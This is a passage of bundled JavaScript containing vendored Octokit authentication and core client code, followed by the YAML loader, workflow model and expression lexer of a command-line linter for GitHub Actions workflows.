    var __getOwnPropNames2 = Object.getOwnPropertyNames;
    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
    var __export2 = (target, all) => {
      for (var name in all)
        __defProp2(target, name, { get: all[name], enumerable: true });
    };
    var __copyProps2 = (to, from, except, desc) => {
      if (from && typeof from === "object" || typeof from === "function") {
        for (let key2 of __getOwnPropNames2(from))
          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
      }
      return to;
    };
    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
    var dist_src_exports = {};
    __export2(dist_src_exports, {
      createTokenAuth: () => createTokenAuth
    });
    module2.exports = __toCommonJS2(dist_src_exports);
    var REGEX_IS_INSTALLATION_LEGACY = /^v1\./;
    var REGEX_IS_INSTALLATION = /^ghs_/;
    var REGEX_IS_USER_TO_SERVER = /^ghu_/;
    async function auth(token) {
      const isApp = token.split(/\./).length === 3;
      const isInstallation = REGEX_IS_INSTALLATION_LEGACY.test(token) || REGEX_IS_INSTALLATION.test(token);
      const isUserToServer = REGEX_IS_USER_TO_SERVER.test(token);
      const tokenType = isApp ? "app" : isInstallation ? "installation" : isUserToServer ? "user-to-server" : "oauth";
      return {
        type: "token",
        token,
        tokenType
      };
    }
    function withAuthorizationPrefix(token) {
      if (token.split(/\./).length === 3) {
        return `bearer ${token}`;
      }
      return `token ${token}`;
    }
    async function hook(token, request, route, parameters) {
      const endpoint = request.endpoint.merge(
        route,
        parameters
      );
      endpoint.headers.authorization = withAuthorizationPrefix(token);
      return request(endpoint);
    }
    var createTokenAuth = function createTokenAuth2(token) {
      if (!token) {
        throw new Error("[@octokit/auth-token] No token passed to createTokenAuth");
      }
      if (typeof token !== "string") {
        throw new Error(
          "[@octokit/auth-token] Token passed to createTokenAuth is not a string"
        );
      }
      token = token.replace(/^(token|bearer) +/i, "");
      return Object.assign(auth.bind(null, token), {
        hook: hook.bind(null, token)
      });
    };
  }
});

// node_modules/@octokit/core/dist-node/index.js
var require_dist_node8 = __commonJS({
  "node_modules/@octokit/core/dist-node/index.js"(exports2, module2) {
    "use strict";
    var __defProp2 = Object.defineProperty;
    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
    var __getOwnPropNames2 = Object.getOwnPropertyNames;
    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
    var __export2 = (target, all) => {
      for (var name in all)
        __defProp2(target, name, { get: all[name], enumerable: true });
    };
    var __copyProps2 = (to, from, except, desc) => {
      if (from && typeof from === "object" || typeof from === "function") {
        for (let key2 of __getOwnPropNames2(from))
          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
      }
      return to;
    };
    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
    var index_exports = {};
    __export2(index_exports, {
      Octokit: () => Octokit2
    });
    module2.exports = __toCommonJS2(index_exports);
    var import_universal_user_agent = require_dist_node();
    var import_before_after_hook = require_before_after_hook();
    var import_request = require_dist_node5();
    var import_graphql = require_dist_node6();
    var import_auth_token = require_dist_node7();
    var VERSION2 = "5.2.2";
    var noop = () => {
    };
    var consoleWarn = console.warn.bind(console);
    var consoleError = console.error.bind(console);
    function createLogger(logger = {}) {
      if (typeof logger.debug !== "function") {
        logger.debug = noop;
      }
      if (typeof logger.info !== "function") {
        logger.info = noop;
      }
      if (typeof logger.warn !== "function") {
        logger.warn = consoleWarn;
      }
      if (typeof logger.error !== "function") {
        logger.error = consoleError;
      }
      return logger;
    }
    var userAgentTrail = `octokit-core.js/${VERSION2} ${(0, import_universal_user_agent.getUserAgent)()}`;
    var Octokit2 = class {
      static {
        this.VERSION = VERSION2;
      }
      static defaults(defaults) {
        const OctokitWithDefaults = class extends this {
          constructor(...args) {
            const options = args[0] || {};
            if (typeof defaults === "function") {
              super(defaults(options));
              return;
            }
            super(
              Object.assign(
                {},
                defaults,
                options,
                options.userAgent && defaults.userAgent ? {
                  userAgent: `${options.userAgent} ${defaults.userAgent}`
                } : null
              )
            );
          }
        };
        return OctokitWithDefaults;
      }
      static {
        this.plugins = [];
      }
      /**
       * Attach a plugin (or many) to your Octokit instance.
       *
       * @example
       * const API = Octokit.plugin(plugin1, plugin2, plugin3, ...)
       */
      static plugin(...newPlugins) {
        const currentPlugins = this.plugins;
        const NewOctokit = class extends this {
          static {
            this.plugins = currentPlugins.concat(
              newPlugins.filter((plugin) => !currentPlugins.includes(plugin))
            );
          }
        };
        return NewOctokit;
      }
      constructor(options = {}) {
        const hook = new import_before_after_hook.Collection();
        const requestDefaults = {
          baseUrl: import_request.request.endpoint.DEFAULTS.baseUrl,
          headers: {},
          request: Object.assign({}, options.request, {
            // @ts-ignore internal usage only, no need to type
            hook: hook.bind(null, "request")
          }),
          mediaType: {
            previews: [],
            format: ""
          }
        };
        requestDefaults.headers["user-agent"] = options.userAgent ? `${options.userAgent} ${userAgentTrail}` : userAgentTrail;
        if (options.baseUrl) {
          requestDefaults.baseUrl = options.baseUrl;
        }
        if (options.previews) {
          requestDefaults.mediaType.previews = options.previews;
        }
        if (options.timeZone) {
          requestDefaults.headers["time-zone"] = options.timeZone;
        }
        this.request = import_request.request.defaults(requestDefaults);
        this.graphql = (0, import_graphql.withCustomRequest)(this.request).defaults(requestDefaults);
        this.log = createLogger(options.log);
        this.hook = hook;
        if (!options.authStrategy) {
          if (!options.auth) {
            this.auth = async () => ({
              type: "unauthenticated"
            });
          } else {
            const auth = (0, import_auth_token.createTokenAuth)(options.auth);
            hook.wrap("request", auth.hook);
            this.auth = auth;
          }
        } else {
          const { authStrategy, ...otherOptions } = options;
          const auth = authStrategy(
            Object.assign(
              {
                request: this.request,
                log: this.log,
                // we pass the current octokit instance as well as its constructor options
                // to allow for authentication strategies that return a new octokit instance
                // that shares the same internal state as the current one. The original
                // requirement for this was the "event-octokit" authentication strategy
                // of https://github.com/probot/octokit-auth-probot.
                octokit: this,
                octokitOptions: otherOptions
              },
              options.auth
            )
          );
          hook.wrap("request", auth.hook);
          this.auth = auth;
        }
        const classConstructor = this.constructor;
        for (let i = 0; i < classConstructor.plugins.length; ++i) {
          Object.assign(this, classConstructor.plugins[i](this, options));
        }
      }
    };
  }
});

// src/cli.ts
var cli_exports = {};
__export(cli_exports, {
  VERSION: () => VERSION,
  lint: () => lint,
  main: () => main
});
module.exports = __toCommonJS(cli_exports);
var import_node_fs16 = __toESM(require("node:fs"));

// src/checks/types.ts
var SEVERITIES = ["critical", "high", "medium", "low"];
function severityRank(s) {
  return 4 - SEVERITIES.indexOf(s);
}

// src/config.ts
var import_node_fs2 = __toESM(require("node:fs"));

// src/workflow/yaml.ts
var import_yaml = __toESM(require_dist());
var YamlLoadError = class extends Error {
  constructor(message, offset) {
    super(message);
    this.offset = offset;
  }
  offset;
};
var MAX_ALIAS_EXPANSION = 2e5;
var MAX_DEPTH = 256;
function makeSourceFile(path14, text) {
  const lineStarts = [0];
  for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) lineStarts.push(i + 1);
  return { path: path14, text, lineStarts };
}
function positionOf(file, offset) {
  const starts = file.lineStarts;
  let lo = 0;
  let hi = starts.length - 1;
  while (lo < hi) {
    const mid = lo + hi + 1 >> 1;
    if (starts[mid] <= offset) lo = mid;
    else hi = mid - 1;
  }
  return { line: lo + 1, column: offset - starts[lo] + 1 };
}
function loadYaml(file) {
  const doc = (0, import_yaml.parseDocument)(file.text, {
    merge: true,
    uniqueKeys: false,
    strict: false,
    prettyErrors: false,
    keepSourceTokens: false
  });
  const firstError = doc.errors[0];
  if (firstError) {
    const offset = firstError.pos?.[0] ?? 0;
    throw new YamlLoadError(cleanYamlMessage(firstError.message), offset);
  }
  if (!doc.contents) return null;
  return new Converter(doc).convert(doc.contents, 0);
}
function cleanYamlMessage(message) {
  return message.split("\n")[0].replace(/\s+at line \d+, column \d+:?$/, "");
}
var Converter = class {
  constructor(doc) {
    this.doc = doc;
  }
  doc;
  cache = /* @__PURE__ */ new Map();
  expanded = 0;
  convert(node, depth) {
    if (depth > MAX_DEPTH) throw new YamlLoadError("document nests too deeply", node.range?.[0] ?? 0);
    if ((0, import_yaml.isAlias)(node)) {
      const target = node.resolve(this.doc);
      if (!target) throw new YamlLoadError(`unknown alias *${node.source}`, node.range?.[0] ?? 0);
      const converted = this.convert(target, depth + 1);
      this.expanded += countNodes(converted, MAX_ALIAS_EXPANSION - this.expanded + 1);
      if (this.expanded > MAX_ALIAS_EXPANSION) {
        throw new YamlLoadError("aliases expand to too many nodes (alias bomb?)", node.range?.[0] ?? 0);
      }
      return converted;
    }
    const anchored = !!node.anchor;
    const cached3 = anchored ? this.cache.get(node) : void 0;
    if (cached3) return cached3;
    const [start, end] = node.range ?? [0, 0];
    let result;
    if ((0, import_yaml.isMap)(node)) {
      const map = { kind: "map", pairs: [], start, end };
      if (anchored) this.cache.set(node, map);
      const merges = [];
      for (const item of node.items) {
        if (!(0, import_yaml.isPair)(item)) continue;
        const keyNode = item.key;
        const key2 = keyNode ? this.convert(keyNode, depth + 1) : null;
        const keyScalar = key2?.kind === "scalar" ? key2 : { kind: "scalar", value: "", text: "", style: "plain", start, end: start };
        const valueNode = item.value;
        const value = valueNode ? this.convert(valueNode, depth + 1) : { kind: "scalar", value: null, text: "", style: "plain", start: keyScalar.end, end: keyScalar.end };
        if (keyScalar.text === "<<" && keyScalar.style === "plain") merges.push(value);
        else map.pairs.push({ key: keyScalar, value });
      }
      for (const merged of merges) applyMerge(map, merged);
      result = map;
    } else if ((0, import_yaml.isSeq)(node)) {
      const seq = { kind: "seq", items: [], start, end };
      if (anchored) this.cache.set(node, seq);
      for (const item of node.items) {
        if (item == null) continue;
        seq.items.push(this.convert(item, depth + 1));
      }
      result = seq;
    } else if ((0, import_yaml.isScalar)(node)) {
      result = scalarOf(node, start, end);
    } else {
      result = { kind: "scalar", value: null, text: "", style: "plain", start, end };
    }
    if (anchored) this.cache.set(node, result);
    return result;
  }
};
function applyMerge(map, merged) {
  const sources = merged.kind === "seq" ? merged.items : [merged];
  for (const source of sources) {
    if (source.kind !== "map") continue;
    for (const pair of source.pairs) {
      if (!map.pairs.some((p) => p.key.text === pair.key.text)) map.pairs.push(pair);
    }
  }
}
function countNodes(node, limit2) {
  let count = 0;
  const stack = [node];
  while (stack.length && count < limit2) {
    const n = stack.pop();
    count++;
    if (n.kind === "map") for (const p of n.pairs) stack.push(p.value);
    else if (n.kind === "seq") for (const i of n.items) stack.push(i);
  }
  return count;
}
var STYLES = {
  PLAIN: "plain",
  QUOTE_SINGLE: "single",
  QUOTE_DOUBLE: "double",
  BLOCK_LITERAL: "literal",
  BLOCK_FOLDED: "folded"
};
function scalarOf(node, start, end) {
  const raw = node.value;
  let value;
  if (raw === null || raw === void 0) value = null;
  else if (typeof raw === "string" || typeof raw === "number" || typeof raw === "boolean") value = raw;
  else if (typeof raw === "bigint") value = Number(raw);
  else if (typeof raw === "symbol") value = node.source ?? "<<";
  else value = String(raw);
  const text = value === null ? "" : typeof value === "string" ? value : sourceTextOf(node, value);
  return { kind: "scalar", value, text, style: STYLES[node.type ?? "PLAIN"] ?? "plain", start, end };
}
function sourceTextOf(node, value) {
  const source = node.source;
  return typeof source === "string" ? source : String(value);
}
function mapGet(node, key2) {
  if (!node || node.kind !== "map") return void 0;
  for (const pair of node.pairs) if (pair.key.text === key2) return pair.value;
  return void 0;
}
function mapPair(node, key2) {
  if (!node || node.kind !== "map") return void 0;
  for (const pair of node.pairs) if (pair.key.text === key2) return pair;
  return void 0;
}
function scalarText(node) {
  return node && node.kind === "scalar" ? node.text : void 0;
}
function stringList(node) {
  if (!node) return [];
  if (node.kind === "scalar") return node.value === null ? [] : [node.text];
  if (node.kind === "seq") return node.items.filter((i) => i.kind === "scalar").map((i) => i.text);
  return [];
}
function locateInScalar(file, scalar, valueOffset, length) {
  const needle = scalar.text.slice(valueOffset, valueOffset + length);
  if (!needle) return scalar.start;
  let occurrence = 0;
  for (let i = scalar.text.indexOf(needle); i !== -1 && i < valueOffset; i = scalar.text.indexOf(needle, i + 1)) {
    occurrence++;
  }
  let at = scalar.start - 1;
  for (let n = 0; n <= occurrence; n++) {
    at = file.text.indexOf(needle, at + 1);
    if (at === -1 || at + needle.length > scalar.end) return scalar.start;
  }
  return at;
}

// src/workflow/model.ts
function buildWorkflow(file, root) {
  const problems = [];
  if (!root || root.kind !== "map") {
    problems.push({ message: "a workflow must be a mapping", offset: root?.start ?? 0 });
    return emptyWorkflow(file, root, problems);
  }
  const onPair = mapPair(root, "on") ?? mapPairBoolKey(root);
  const triggers = onPair ? readTriggers(onPair.value, problems) : [];
  if (!onPair) problems.push({ message: "a workflow needs an 'on:' key", offset: root.start });
  const callConfig = triggers.find((t) => t.event === "workflow_call")?.config;
  const jobsNode = mapGet(root, "jobs");
  const jobs = [];
  if (jobsNode && jobsNode.kind === "map") {
    for (const pair of jobsNode.pairs) {
      if (pair.value.kind !== "map") {
        problems.push({ message: `job '${pair.key.text}' must be a mapping`, offset: pair.value.start });
        continue;
      }
      jobs.push(readJob(pair.key, pair.value, problems));
    }
  } else if (jobsNode) {
    problems.push({ message: "'jobs' must be a mapping", offset: jobsNode.start });
  } else {
    problems.push({ message: "a workflow needs a 'jobs:' key", offset: root.start });
  }
  return {
    kind: "workflow",
    file,
    root,
    name: scalarText(mapGet(root, "name")),
    triggers,
    onNode: onPair?.value,
    permissions: readPermissions(mapGet(root, "permissions"), problems),
    env: readEntries(mapGet(root, "env"), "env", problems),
    jobs,
    callInputs: readCallInputs(mapGet(callConfig, "inputs")),
    callOutputs: readOutputs(mapGet(callConfig, "outputs"), problems),
    problems
  };
}
function mapPairBoolKey(root) {
  return root.pairs.find((p) => p.key.value === true);
}
function emptyWorkflow(file, root, problems) {
  return {
    kind: "workflow",
    file,
    root: { kind: "map", pairs: [], start: root?.start ?? 0, end: root?.end ?? 0 },
    triggers: [],
    env: [],
    jobs: [],
    callInputs: [],
    callOutputs: [],
    problems
  };
}
function readTriggers(node, problems) {
  if (node.kind === "scalar") return node.value === null ? [] : [{ event: node.text, types: [], node }];
  if (node.kind === "seq") {
    return node.items.filter((i) => i.kind === "scalar").map((i) => ({ event: i.text, types: [], node: i }));
  }
  const triggers = [];
  for (const pair of node.pairs) {
    const config = pair.value;
    const typesNode = mapGet(config, "types");
    if (typesNode && typesNode.kind === "map") {
      problems.push({ message: `'types' of '${pair.key.text}' must be a list`, offset: typesNode.start });
    }
    triggers.push({ event: pair.key.text, types: stringList(typesNode), node: pair.key, config });
  }
  return triggers;
}
function readJob(keyNode, node, problems) {
  const stepsNode = mapGet(node, "steps");
  const steps = [];
  if (stepsNode?.kind === "seq") {
    stepsNode.items.forEach((item, index2) => {
      if (item.kind !== "map") {
        problems.push({ message: `step ${index2 + 1} of job '${keyNode.text}' must be a mapping`, offset: item.start });
        return;
      }
      steps.push(readStep(item, index2, problems));
    });
  } else if (stepsNode) {
    problems.push({ message: `'steps' of job '${keyNode.text}' must be a list`, offset: stepsNode.start });
  }
  const secretsNode = mapGet(node, "secrets");
  const environmentNode = mapGet(node, "environment");
  const environmentName = environmentNode?.kind === "scalar" ? environmentNode.text : scalarText(mapGet(environmentNode, "name"));
  const runsOnNode = mapGet(node, "runs-on");
  return {
    id: keyNode.text,
    node,
    keyNode,
    name: scalarText(mapGet(node, "name")),
    if: asScalar(mapGet(node, "if")),
    needs: stringList(mapGet(node, "needs")),
    permissions: readPermissions(mapGet(node, "permissions"), problems),
    env: readEntries(mapGet(node, "env"), "env", problems),
    environment: environmentNode && environmentName !== void 0 ? { name: environmentName, node: environmentNode } : void 0,
    runsOn: readRunsOn(runsOnNode),
    runsOnNode,
    container: mapGet(node, "container"),
    steps,
    uses: asScalar(mapGet(node, "uses")),
    with: readEntries(mapGet(node, "with"), "with", problems),
    secrets: secretsNode?.kind === "scalar" && secretsNode.text === "inherit" ? "inherit" : secretsNode ? readEntries(secretsNode, "secrets", problems) : void 0,
    secretsNode,
    outputs: readOutputs(mapGet(node, "outputs"), problems),
    strategy: mapGet(node, "strategy")
  };
}
function readRunsOn(node) {
  if (!node) return [];
  if (node.kind === "map") return [...stringList(mapGet(node, "labels")), ...stringList(mapGet(node, "group"))];
  return stringList(node);
}
function readStep(node, index2, problems) {
  const id = scalarText(mapGet(node, "id"));
  const name = scalarText(mapGet(node, "name"));
  const envNode = mapGet(node, "env");
  const uses = asScalar(mapGet(node, "uses"));
  const run = asScalar(mapGet(node, "run"));
  return {
    index: index2,
    node,
    id,
    name,
    label: id ?? name ?? stepIdentity(uses?.text, run?.text) ?? `#${index2 + 1}`,
    if: asScalar(mapGet(node, "if")),
    uses,
    run,
    shell: scalarText(mapGet(node, "shell")),
    with: readEntries(mapGet(node, "with"), "with", problems),
    env: envNode?.kind === "scalar" ? [] : readEntries(envNode, "env", problems),
    envExpression: envNode?.kind === "scalar" && envNode.value !== null ? envNode : void 0,
    workingDirectory: scalarText(mapGet(node, "working-directory")),
    continueOnError: mapGet(node, "continue-on-error")
  };
}
var MAX_IDENTITY = 60;
function stepIdentity(uses, run) {
  if (uses !== void 0 && uses.trim() !== "") return uses.trim().replace(/@[^@]*$/, "");
  if (run === void 0) return void 0;
  for (const raw of run.split("\n")) {
    const line = raw.replace(/\\$/, "").replace(/\s+/g, " ").trim();
    if (line === "" || line.startsWith("#") || /^(set|shopt) [-+]/.test(line)) continue;
    return line.length > MAX_IDENTITY ? `${line.slice(0, MAX_IDENTITY - 1)}\u2026` : line;
  }
  return void 0;
}
function asScalar(node) {
  return node?.kind === "scalar" && node.value !== null ? node : void 0;
}
function readEntries(node, what, problems) {
  if (!node) return [];
  if (node.kind !== "map") {
    if (node.kind === "scalar" && node.value === null) return [];
    if (node.kind === "scalar" && node.text.includes("${{")) return [];
    problems.push({ message: `'${what}' must be a mapping`, offset: node.start });
    return [];
  }
  return node.pairs.map((pair) => ({
    name: pair.key.text,
    keyNode: pair.key,
    value: pair.value,
    text: pair.value.kind === "scalar" ? pair.value.text : ""
  }));
}
function readOutputs(node, problems) {
  return readEntries(node, "outputs", problems).map((entry) => {
    const inner = entry.value.kind === "map" ? mapGet(entry.value, "value") : void 0;
    return inner ? { ...entry, value: inner, text: scalarText(inner) ?? "" } : entry;
  });
}
function readCallInputs(node) {
  if (!node || node.kind !== "map") return [];
  return node.pairs.map((p) => ({ name: p.key.text, node: p.value, default: asScalar(mapGet(p.value, "default")) }));
}
var LEVELS = { read: "read", write: "write", none: "none" };
function readPermissions(node, problems) {
  if (!node) return void 0;
  if (node.kind === "scalar") {
    if (node.text === "read-all") return { node, all: "read", scopes: {} };
    if (node.text === "write-all") return { node, all: "write", scopes: {} };
    if (node.value === null) return { node, all: "none", scopes: {} };
    if (node.text.includes("${{")) return void 0;
    problems.push({ message: `unknown permissions value '${node.text}'`, offset: node.start });
    return void 0;
  }
  if (node.kind !== "map") {
    problems.push({ message: "'permissions' must be a mapping or read-all/write-all", offset: node.start });
    return void 0;
  }
  const scopes = {};
  for (const pair of node.pairs) {
    const level = LEVELS[scalarText(pair.value) ?? ""];
    if (level) scopes[pair.key.text] = level;
    else problems.push({ message: `unknown permission level for '${pair.key.text}'`, offset: pair.value.start });
  }
  return { node, all: "none", scopes };
}
function buildAction(file, root) {
  const problems = [];
  const map = root?.kind === "map" ? root : { kind: "map", pairs: [], start: 0, end: 0 };
  if (!root || root.kind !== "map") problems.push({ message: "an action must be a mapping", offset: root?.start ?? 0 });
  const runs = mapGet(map, "runs");
  const using = scalarText(mapGet(runs, "using")) ?? "";
  if (!runs) problems.push({ message: "an action needs a 'runs:' key", offset: map.start });
  const steps = [];
  const stepsNode = mapGet(runs, "steps");
  if (stepsNode?.kind === "seq") {
    stepsNode.items.forEach((item, index2) => {
      if (item.kind === "map") steps.push(readStep(item, index2, problems));
      else problems.push({ message: `step ${index2 + 1} must be a mapping`, offset: item.start });
    });
  }
  const inputsNode = mapGet(map, "inputs");
  return {
    kind: "action",
    file,
    root: map,
    name: scalarText(mapGet(map, "name")),
    using,
    inputs: inputsNode?.kind === "map" ? inputsNode.pairs.map((p) => ({ name: p.key.text, node: p.value, default: asScalar(mapGet(p.value, "default")) })) : [],
    outputs: readOutputs(mapGet(map, "outputs"), problems),
    steps,
    env: readEntries(mapGet(runs, "env"), "env", problems),
    problems
  };
}
function looksLikeAction(root) {
  return !!root && root.kind === "map" && !!mapGet(root, "runs") && !mapGet(root, "jobs");
}
function inputOf(entries, name) {
  const wanted = name.toLowerCase();
  return entries.find((e) => e.name.toLowerCase() === wanted);
}

// src/workflow/expression.ts
var MAX_NESTING = 200;
var GITHUB_MAX_EXPRESSION_LENGTH = 21e3;
var ExpressionSyntaxError = class extends Error {
  /** Offset into the expression text where the problem was found. */
  offset;
  constructor(message, offset) {
    super(message);
    this.name = "ExpressionSyntaxError";
    this.offset = offset;
  }
};
var T_NONE = -1;
var T_EOF = 0;
var T_LPAREN = 1;
var T_RPAREN = 2;
var T_LBRACKET = 3;
var T_RBRACKET = 4;
var T_COMMA = 5;
var T_DOT = 6;
var T_STAR = 7;
var T_BANG = 8;
var T_EQ = 9;
var T_NE = 10;
var T_LT = 11;
var T_LE = 12;
var T_GT = 13;
var T_GE = 14;
var T_AND = 15;
var T_OR = 16;
var T_NUMBER = 17;
var T_STRING = 18;
var T_IDENT = 19;
var T_TRUE = 20;
var T_FALSE = 21;
var T_NULL = 22;
var BINARY_OP = [];
BINARY_OP[T_EQ] = "==";
BINARY_OP[T_NE] = "!=";
BINARY_OP[T_LT] = "<";
BINARY_OP[T_LE] = "<=";
BINARY_OP[T_GT] = ">";
BINARY_OP[T_GE] = ">=";
BINARY_OP[T_AND] = "&&";
BINARY_OP[T_OR] = "||";
function precedence(tok) {
  switch (tok) {
    case T_OR:
      return 1;
    case T_AND:
      return 2;
    case T_EQ:
    case T_NE:
      return 3;
    case T_LT:
    case T_LE:
    case T_GT:
    case T_GE:
      return 4;
    default:
      return 0;
  }
}
var C_TAB = 9;
var C_SPACE = 32;
var C_BANG = 33;
var C_DQUOTE = 34;
var C_AMP = 38;
var C_QUOTE = 39;
var C_LPAREN = 40;
var C_RPAREN = 41;
var C_STAR = 42;
var C_PLUS = 43;
var C_COMMA = 44;
var C_MINUS = 45;
var C_DOT = 46;
var C_0 = 48;
var C_7 = 55;
var C_9 = 57;
var C_LT = 60;
var C_EQ = 61;
var C_GT = 62;
var C_UPPER_A = 65;
var C_UPPER_E = 69;
var C_UPPER_F = 70;
var C_UPPER_Z = 90;
var C_LBRACKET = 91;
var C_RBRACKET = 93;
var C_UNDERSCORE = 95;
var C_LOWER_A = 97;
var C_LOWER_E = 101;
var C_LOWER_F = 102;
var C_LOWER_O = 111;
var C_LOWER_X = 120;
var C_LOWER_Z = 122;
var C_PIPE = 124;
var C_RBRACE = 125;
function isWhitespace(c) {
  if (c <= C_SPACE) return c === C_SPACE || c >= C_TAB && c <= 13;
  if (c < 133) return false;
  return c === 133 || c === 160 || c === 5760 || c >= 8192 && c <= 8202 || c === 8232 || c === 8233 || c === 8239 || c === 8287 || c === 12288;
}
function isDigit(c) {
  return c >= C_0 && c <= C_9;
}
function isIdentStart(c) {
  return c >= C_LOWER_A && c <= C_LOWER_Z || c >= C_UPPER_A && c <= C_UPPER_Z || c === C_UNDERSCORE;
}
function isIdentPart(c) {
  return isIdentStart(c) || isDigit(c) || c === C_MINUS;
}
function isBoundary(c) {
  switch (c) {
    case C_LPAREN:
    case C_RPAREN:
    case C_LBRACKET:
    case C_RBRACKET:
    case C_COMMA:
    case C_DOT:
    case C_BANG:
    case C_GT:
    case C_LT:
    case C_EQ:
    case C_AMP:
    case C_PIPE:
      return true;
    default:
      return isWhitespace(c);
  }
}
function hexValue(c) {
  if (c >= C_0 && c <= C_9) return c - C_0;
  if (c >= C_LOWER_A && c <= C_LOWER_F) return c - C_LOWER_A + 10;
  if (c >= C_UPPER_A && c <= C_UPPER_F) return c - C_UPPER_A + 10;
  return -1;
}
function numberValue(src, s, e) {
  let i = s;
  let c = src.charCodeAt(i);
  let negative = false;
  if (c === C_PLUS || c === C_MINUS) {
    negative = c === C_MINUS;
    i++;
    if (i === e) return void 0;
    c = src.charCodeAt(i);
  }
  if (e - i === 8 && src.startsWith("Infinity", i)) return negative ? -Infinity : Infinity;
  if (i === s && e - i > 2 && c === C_0) {
    const kind = src.charCodeAt(i + 1);
    if (kind === C_LOWER_X || kind === C_LOWER_O) {
      const base = kind === C_LOWER_X ? 16 : 8;
      let v = 0;
      for (let j = i + 2; j < e; j++) {
        const d = src.charCodeAt(j);
        const dv = base === 16 ? hexValue(d) : d >= C_0 && d <= C_7 ? d - C_0 : -1;
        if (dv < 0) return void 0;
        v = v * base + dv;
        if (v > 4294967295) return void 0;
      }
      return v | 0;
    }
  }
  let digits = 0;
  while (i < e && isDigit(src.charCodeAt(i))) {
    i++;
    digits++;
  }
  if (i < e && src.charCodeAt(i) === C_DOT) {
    i++;
    while (i < e && isDigit(src.charCodeAt(i))) {
      i++;
      digits++;
    }
  }
  if (digits === 0) return void 0;
  if (i < e && (src.charCodeAt(i) === C_LOWER_E || src.charCodeAt(i) === C_UPPER_E)) {
    i++;
    if (i < e && (src.charCodeAt(i) === C_PLUS || src.charCodeAt(i) === C_MINUS)) i++;
    let expDigits = 0;
    while (i < e && isDigit(src.charCodeAt(i))) {
      i++;
      expDigits++;
    }
    if (expDigits === 0) return void 0;
  }
  if (i !== e) return void 0;
  return Number(src.slice(s, e));
}
function quote(text, wrap2 = true) {
  let t = text.length > 40 ? text.slice(0, 40) + "\u2026" : text;
  t = t.replace(/[\u0000-\u001f\u007f\u2028\u2029]/g, (ch) => {
    switch (ch) {
      case "\n":
        return "\\n";
      case "\r":
        return "\\r";
      case "	":
        return "\\t";
      default:
        return "\\u" + ch.charCodeAt(0).toString(16).padStart(4, "0");
    }
  });
  return wrap2 ? `'${t}'` : t;
}
var Parser = class {
  src;
  len;
  pos = 0;
  tok = T_NONE;
  tokStart = 0;
  tokEnd = 0;
  tokValue = null;
  prevTok = T_NONE;
  prevEnd = 0;
  depth = 0;
  constructor(src) {
    this.src = src;
    this.len = src.length;
  }
  parse() {
    this.advance();
    if (this.is(T_EOF)) throw new ExpressionSyntaxError("empty expression", 0);
    const e = this.parseBinary(1);
    if (!this.is(T_EOF)) throw this.unexpected();
    return e;
  }
  // ---- errors
  fail(message, offset, hint) {
    return new ExpressionSyntaxError(`${message} at offset ${offset}${hint ? ` (${hint})` : ""}`, offset);
  }
  unexpected(expected) {
    const what = this.tok === T_EOF ? "end of expression" : quote(this.src.slice(this.tokStart, this.tokEnd), this.tok !== T_STRING);
    return this.fail(`unexpected ${what}`, this.tokStart, expected && `expected ${expected}`);
  }
  /** Expect the closing token of a bracket pair opened at `openAt`. */
  expectClose(kind, open, close, openAt) {
    if (this.tok === kind) return;
    if (this.tok === T_EOF) {
      throw new ExpressionSyntaxError(
        `unclosed '${open}' at offset ${openAt} (expected '${close}' before end of expression)`,
        openAt
      );
    }
    throw this.unexpected(`'${close}' to close '${open}' at offset ${openAt}`);
  }
  enter() {
    if (++this.depth > MAX_NESTING) throw this.fail("expression nests too deeply", this.tokStart);
  }
  // ---- lexer
  advance() {
    this.prevTok = this.tok;
    this.prevEnd = this.tokEnd;
    const src = this.src;
    const len = this.len;
    let i = this.pos;
    while (i < len && isWhitespace(src.charCodeAt(i))) i++;
    this.tokStart = i;
    if (i >= len) {
      this.tok = T_EOF;
      this.tokEnd = this.pos = len;
      return;
    }
    const c = src.charCodeAt(i);
    const next = i + 1 < len ? src.charCodeAt(i + 1) : -1;
    switch (c) {
      case C_LPAREN:
        return this.simple(T_LPAREN, i + 1);
      case C_RPAREN:
        return this.simple(T_RPAREN, i + 1);
      case C_LBRACKET:
        return this.simple(T_LBRACKET, i + 1);
      case C_RBRACKET:
        return this.simple(T_RBRACKET, i + 1);
      case C_COMMA:
        return this.simple(T_COMMA, i + 1);
      case C_STAR:
        return this.simple(T_STAR, i + 1);
      case C_BANG:
        return next === C_EQ ? this.simple(T_NE, i + 2) : this.simple(T_BANG, i + 1);
      case C_LT:
        return next === C_EQ ? this.simple(T_LE, i + 2) : this.simple(T_LT, i + 1);
      case C_GT:
        return next === C_EQ ? this.simple(T_GE, i + 2) : this.simple(T_GT, i + 1);
      case C_EQ:
        if (next === C_EQ) return this.simple(T_EQ, i + 2);
        throw this.fail(`unexpected '='`, i, "use '==' to compare");
      case C_AMP:
        if (next === C_AMP) return this.simple(T_AND, i + 2);
        throw this.fail(`unexpected '&'`, i, "use '&&'");
      case C_PIPE:
        if (next === C_PIPE) return this.simple(T_OR, i + 2);
        throw this.fail(`unexpected '|'`, i, "use '||'");
      case C_QUOTE:
        return this.lexString(i);
      case C_DQUOTE:
        throw this.fail(`unexpected '"'`, i, "strings use single quotes");
      case C_DOT:
        if (isDigit(next) && this.operandExpected()) return this.lexNumber(i);
        return this.simple(T_DOT, i + 1);
      case C_MINUS:
      case C_PLUS:
        return this.lexNumber(i);
      default:
        if (isDigit(c)) return this.lexNumber(i);
        if (isIdentStart(c)) return this.lexIdentifier(i);
        throw this.fail(`unexpected character ${quote(String.fromCodePoint(src.codePointAt(i) ?? c))}`, i);
    }
  }
  simple(tok, end) {
    this.tok = tok;
    this.tokEnd = this.pos = end;
  }
  /** True when the previous token cannot be followed by `.` property access. */
  operandExpected() {
    const p = this.prevTok;
    return p === T_NONE || p === T_COMMA || p === T_LPAREN || p === T_LBRACKET || p === T_BANG || precedence(p) > 0;
  }
